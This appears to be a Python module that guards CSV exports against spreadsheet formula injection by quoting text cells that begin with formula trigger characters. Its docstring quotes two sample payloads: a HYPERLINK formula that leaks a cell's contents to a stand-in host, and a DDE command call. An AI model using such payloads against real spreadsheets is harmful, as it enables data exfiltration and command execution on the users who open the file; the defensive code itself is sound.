"""Files people open in a spreadsheet (CSV, XLSX): every cell written through `safe_cell`.

A spreadsheet reads a cell beginning with `=`, `+`, `-` or `@` as a formula (and skips a leading
tab or carriage return first), so a customer name such as `=HYPERLINK("http://evil/?"&A1)` or a
DDE call `=cmd|' /C calc'!A0` in an export would run on the finance clerk's machine. Text cells
that begin so get a leading single quote (OWASP's advice); the spreadsheet shows the text as typed.

Numbers stay numbers: an `int` or `Decimal` is written as it is, and so is a text cell that is only
a signed number or a phone number (`-4.98`, `+45 20 00 00 01`): digits, spaces, dots and commas
after the sign cannot call a function or reference a cell, and the invoice flat file's negative
credit amounts must reach the ERP as numbers. Everything else that begins with a trigger is
neutralised, whatever column it is in.
"""

from __future__ import annotations

import csv
import re
from decimal import Decimal
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d[\d .,]*\Z")


def safe_cell(value: Any) -> Any:
    """The value as a cell no spreadsheet runs: text beginning with a formula trigger gets a `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(TRIGGERS) and not PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def safe_row(row) -> list:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """`csv.writer` whose rows pass through `safe_cell` (header rows too)."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self):
        return self._writer.dialect


def csv_writer(stream, **kwargs) -> SafeWriter:
    """The one way Telora writes a CSV export: `csv_writer(fh).writerow([...])`."""
    return SafeWriter(stream, **kwargs)
